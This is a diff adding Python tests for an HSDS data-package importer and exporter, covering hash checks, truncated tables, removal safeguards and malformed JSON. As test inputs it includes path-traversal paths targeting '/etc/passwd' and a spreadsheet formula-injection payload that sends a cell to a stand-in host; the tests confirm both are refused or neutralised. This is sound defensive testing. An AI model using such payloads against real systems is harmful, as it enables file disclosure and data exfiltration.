@@ -102,7 +102,12 @@ def test_tabular_package_validates_against_the_official_schemas(exported):
     by_name = {r["name"]: r for r in official["resources"]}
     tables: dict[str, list[dict]] = {}
     for res in ours["resources"]:
-        assert res == by_name[res["name"]]               # the official descriptor, unchanged
+        # the official descriptor, unchanged, with the file's own size and hash
+        official_part = {k: v for k, v in res.items() if k not in ("bytes", "hash")}
+        assert official_part == by_name[res["name"]]
+        data = (folder / res["path"]).read_bytes()
+        assert res["bytes"] == len(data)
+        assert res["hash"] == "sha256:" + __import__("hashlib").sha256(data).hexdigest()
         fields = {f["name"]: f for f in res["schema"]["fields"]}
         with open(folder / res["path"], encoding="utf-8", newline="") as fh:
             reader = csv.DictReader(fh)
@@ -327,6 +332,11 @@ def test_package_problems_name_the_csv_file_row_and_column(exported, tmp_path):
     lines[3] = lrow
     (folder / "locations.csv").write_text(io_csv(lines), encoding="utf-8")
     read = hsds.read_tabular(folder)
+    # edited after the export: the package's own sizes and hashes say so
+    assert [p.where for p in read.problems] == ["locations.csv", "phones.csv"]
+    assert "remove its 'bytes' and 'hash'" in read.problems[0].reason
+    forget_sizes(folder)                            # what the message tells an editor to do
+    read = hsds.read_tabular(folder)
     assert [str(p) for p in read.problems] == ["locations.csv row 4: latitude: 'abc' is not a number"]
     (folder / "locations.csv").write_text(io_csv([lh] + [next(csv.reader([x]))
                                                          for x in locations[1:]]),
@@ -346,6 +356,15 @@ def test_package_problems_name_the_csv_file_row_and_column(exported, tmp_path):
     (folder / "services.csv").write_bytes("id,name\n1,Café\n".encode("cp1252"))
     read = hsds.read_tabular(folder)
     assert "services.csv: line 2: is not UTF-8 text" in [str(p) for p in read.problems][0]
+
+
+def forget_sizes(folder: Path) -> None:
+    dp = folder / "datapackage.json"
+    descriptor = json.loads(dp.read_text(encoding="utf-8"))
+    for res in descriptor["resources"]:
+        res.pop("bytes", None)
+        res.pop("hash", None)
+    dp.write_text(json.dumps(descriptor), encoding="utf-8")
 
 
 def io_csv(rows) -> str:
@@ -440,3 +459,245 @@ EXAMPLE_PROFILE = [
     for code, value in (("id", "fuzz-one"), ("kinds", ["digipunt"]), ("hours", "We 09:00-12:00"),
                         ("sources", [{"url": "https://x.be", "date": "2025", "confidence": "high",
                                       "notes": ""}]))]
+
+
+# -- a package that lacks what it says it has (issue 15, item 2) -------------------------------
+
+
+@pytest.fixture
+def shipped_ws(tmp_path, catalogue_file):
+    store = LocalStore(tmp_path / "store", counter="pkg")
+    ws = Workspace(catalogue_file, store, tmp_path / "cache")
+    yield ws
+    ws.close()
+    store.close()
+
+
+@pytest.fixture(scope="module")
+def shipped_package(tmp_path_factory, catalogue_file):
+    """The shipped catalogue alone, exported as a package (what the reliability test cut)."""
+    out = tmp_path_factory.mktemp("shipped-pkg")
+    cat = Catalogue(catalogue_file)
+    try:
+        hsds.export_tabular(cat, out)
+    finally:
+        cat.close()
+    return out
+
+
+def package_copy(shipped_package, tmp_path) -> Path:
+    import shutil
+
+    folder = tmp_path / "pkg"
+    shutil.copytree(shipped_package, folder)
+    return folder
+
+
+def counts(ws) -> tuple[int, int]:
+    records, _ = ws.effective_records()
+    return (sum(1 for r in records if r.phones), sum(1 for r in records if r.locations))
+
+
+def test_a_package_missing_a_declared_table_is_refused_and_strips_nothing(
+        shipped_package, tmp_path, shipped_ws):
+    folder = package_copy(shipped_package, tmp_path)
+    (folder / "phones.csv").unlink()
+    (folder / "service_at_location.csv").unlink()
+    before = counts(shipped_ws), shipped_ws.store.dump()
+    read = hsds.read_tabular(folder)
+    assert [str(p) for p in read.problems] == [
+        f"{name}: is missing: datapackage.json lists this table, but the package does not "
+        "carry it (a missing table is never read as 'no rows')"
+        for name in ("service_at_location.csv", "phones.csv")]
+    with pytest.raises(RecordError):
+        shipped_ws.import_records(read)
+    assert (counts(shipped_ws), shipped_ws.store.dump()) == before
+
+
+@pytest.mark.parametrize("cut", ["empty", "mid_row", "open_quote", "line_boundary"])
+def test_a_cut_off_table_is_refused_with_its_file(shipped_package, tmp_path, cut):
+    folder = package_copy(shipped_package, tmp_path)
+    f = folder / "phones.csv"
+    raw = f.read_bytes()
+    if cut == "empty":
+        f.write_bytes(b"")
+    elif cut == "mid_row":
+        f.write_bytes(raw[: raw.rindex(b"\r\n", 0, len(raw) - 2) + 30])
+    elif cut == "open_quote":
+        f.write_bytes(raw + b'9b0c5d0e-0000-4000-8000-000000000000,,,"half a quot')
+    elif cut == "line_boundary":
+        f.write_bytes(raw[: raw.rindex(b"\r\n", 0, len(raw) - 2) + 2])
+    read = hsds.read_tabular(folder)
+    assert read.problems and read.records == []
+    text = " | ".join(str(p) for p in read.problems)
+    assert text.startswith("phones.csv"), text
+    assert {"empty": "is empty", "mid_row": "cut off", "open_quote": "cut off",
+            "line_boundary": "datapackage.json says"}[cut] in text
+
+
+def test_without_sizes_a_row_cut_at_a_line_end_is_caught_as_a_removal(shipped_package, tmp_path,
+                                                                      shipped_ws):
+    """A package from elsewhere has no sizes; a cut at a line end still removes nothing."""
+    from einclusie_app.core.importer import ImportWouldRemove
+
+    folder = package_copy(shipped_package, tmp_path)
+    forget_sizes(folder)
+    f = folder / "phones.csv"
+    raw = f.read_bytes()
+    f.write_bytes(raw[: raw.rindex(b"\r\n", 0, len(raw) - 2) + 2])      # last phone row gone
+    read = hsds.read_tabular(folder)
+    assert read.problems == []
+    before = shipped_ws.store.dump()
+    with pytest.raises(ImportWouldRemove) as exc:
+        shipped_ws.import_records(read)
+    [gone] = exc.value.removals
+    assert gone.field == "phones" and gone.where.startswith("services.csv row")
+    assert "would remove" in str(exc.value) and "--allow-removals" in str(exc.value)
+    assert shipped_ws.store.dump() == before
+
+
+def test_an_import_reports_what_it_would_remove_and_needs_an_explicit_choice(
+        shipped_package, tmp_path, shipped_ws):
+    from einclusie_app.core.importer import ImportWouldRemove
+
+    folder = package_copy(shipped_package, tmp_path)
+    forget_sizes(folder)
+    dp = folder / "datapackage.json"
+    descriptor = json.loads(dp.read_text())
+    descriptor["resources"] = [r for r in descriptor["resources"]
+                               if r["name"] not in ("phone", "service_at_location")]
+    dp.write_text(json.dumps(descriptor))
+    (folder / "phones.csv").unlink()
+    (folder / "service_at_location.csv").unlink()
+    read = hsds.read_tabular(folder)                   # a package without those tables at all
+    assert read.problems == []
+    phones, locations = counts(shipped_ws)
+    dry = shipped_ws.import_records(read, dry_run=True)
+    by_field = {}
+    for r in dry.removals:
+        by_field.setdefault(r.field, set()).add(r.record_id)
+    assert len(by_field["phones"]) == phones and len(by_field["locations"]) == locations
+    assert "would remove" in dry.summary()
+    with pytest.raises(ImportWouldRemove):
+        shipped_ws.import_records(read)
+    assert counts(shipped_ws) == (phones, locations)
+    report = shipped_ws.import_records(read, allow_removals=True)   # the maintainer's choice
+    assert report.removals and counts(shipped_ws) == (0, 0)
+
+
+@pytest.mark.parametrize("bad", ["../../../../etc/passwd", "/etc/passwd",
+                                 "https://example.invalid/phones.csv", "sub/../../x.csv"])
+def test_a_resource_path_outside_the_package_is_never_followed(shipped_package, tmp_path, bad):
+    folder = package_copy(shipped_package, tmp_path)
+    dp = folder / "datapackage.json"
+    descriptor = json.loads(dp.read_text())
+    next(r for r in descriptor["resources"] if r["name"] == "phone")["path"] = bad
+    dp.write_text(json.dumps(descriptor))
+    read = hsds.read_tabular(folder)
+    assert [p.where for p in read.problems] == ["datapackage.json"]
+    assert read.problems[0].field.endswith(".path") and "not read" in read.problems[0].reason \
+        or "only files inside" in read.problems[0].reason
+
+
+@pytest.mark.parametrize("text", ["[]", '"x"', "null", "[" * 3000 + "]" * 3000,
+                                  '{"resources": 5}', '{"resources": [7]}'])
+def test_a_descriptor_that_is_not_a_package_is_a_message(shipped_package, tmp_path, text):
+    folder = package_copy(shipped_package, tmp_path)
+    (folder / "datapackage.json").write_text(text)
+    read = hsds.read_tabular(folder)
+    assert read.problems and all(p.where == "datapackage.json" for p in read.problems)
+
+
+def test_a_giant_cell_is_a_message_with_its_row(shipped_package, tmp_path):
+    folder = package_copy(shipped_package, tmp_path)
+    forget_sizes(folder)
+    f = folder / "phones.csv"
+    lines = f.read_bytes().decode("utf-8").split("\r\n")
+    cells = next(csv.reader([lines[1]]))
+    cells[-1] = "x" * 140_000
+    lines[1] = io_csv([cells]).rstrip("\r\n")
+    f.write_bytes("\r\n".join(lines).encode("utf-8"))
+    read = hsds.read_tabular(folder)
+    assert [str(p) for p in read.problems] == [
+        "phones.csv row 2: a cell is longer than 131,072 characters"]
+
+
+# -- JSON that would have been a traceback (issue 15, items 6 and 8) --------------------------
+
+
+@pytest.mark.parametrize("raw, words", [
+    (b"[" * 1000 + b"]" * 1000, "nested too deeply"),
+    (b'[{"name": ' + b"9" * 4400 + b"}]", "cannot be read as JSON"),
+])
+def test_json_that_python_cannot_take_is_a_message(tmp_path, raw, words):
+    [p] = problems_of(tmp_path, None, raw=raw)
+    assert p.startswith("bad.json: ") and words in p
+
+
+def test_wrong_shapes_are_reported_not_dropped(tmp_path):
+    s = their_service(organization="Gemeente Zedelgem")
+    found = problems_of(tmp_path, [s])
+    assert "bad.json $[0]: organization: must be an object (the organization, with its name), " \
+           "not str" in found
+    s = their_service()
+    s["service_at_locations"][0]["location"]["addresses"] = {"address_1": "Markt 1"}
+    found = problems_of(tmp_path, [s])
+    assert "bad.json $[0]: service_at_locations[0].location.addresses: must be a list, not " \
+           "dict" in found
+
+
+@pytest.mark.parametrize("name, words", [
+    ("Digipunt\x07", "control character"),
+    ("Digipunt \u202eenilpleh", "right-to-left"),
+    ("D" * 10_000, "longer than"),
+    ("Digipunt \ud800", "lone surrogate"),
+])
+def test_names_a_person_cannot_read_are_refused(tmp_path, name, words):
+    found = problems_of(tmp_path, [their_service(name=name)])
+    assert any(f.startswith("bad.json $[0]: name: ") and words in f for f in found), found
+
+
+# -- formula injection (issue 15, item 5) and may_have_ended -----------------------------------
+
+
+def test_cells_a_spreadsheet_would_run_are_neutralised_and_read_back(tmp_path, catalogue_file,
+                                                                     empty_shipped):
+    store = LocalStore(tmp_path / "store", counter="f")
+    ws = Workspace(catalogue_file, store, tmp_path / "cache")
+    evil = '=HYPERLINK("http://x.invalid/?"&A1,"Klik")'
+    try:
+        r = ws.record("beernem-covias-digipunt")
+        ws.save(replace(r, name=evil, description="+32 is het landnummer", alert="@home",
+                        audience="'quoted", may_have_ended=True,
+                        hours_text="-\tzie website"))
+        cat = ws.open_catalogue()
+        try:
+            dp, _ = hsds.export_tabular(cat, tmp_path / "pkg")
+            js, _ = hsds.export_json(cat, tmp_path / "json")
+        finally:
+            cat.close()
+    finally:
+        ws.close()
+        store.close()
+    services = (tmp_path / "pkg" / "services.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK(" in services and ",=HYPERLINK" not in services
+    for row in csv.reader(services.splitlines()):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert json.loads((tmp_path / "pkg" / "datapackage.json").read_text())[
+        hsds.FORMULA_ESCAPE] == "'"
+    # our own export reads back to the original text, in both forms
+    for read in (hsds.read_tabular(tmp_path / "pkg"), hsds.read_json(js)):
+        r = next(x for x in read.records if x.id == "beernem-covias-digipunt")
+        assert (r.name, r.description, r.alert, r.audience, r.hours_text, r.may_have_ended) == (
+            evil, "+32 is het landnummer", "@home", "'quoted", "-\tzie website", True)
+
+
+def test_may_have_ended_is_a_profile_attribute_only_when_true(exported):
+    services = json.loads(exported["json"].read_text(encoding="utf-8"))
+    flagged = [s for s in services for a in s["attributes"]
+               if a["taxonomy_term"]["code"] == "may_have_ended"]
+    expected = [r for r in exported["records"].values() if r.may_have_ended]
+    assert len(flagged) == len(expected)
+    assert all(json.loads(a["value"]) is True for s in flagged for a in s["attributes"]
+               if a["taxonomy_term"]["code"] == "may_have_ended")
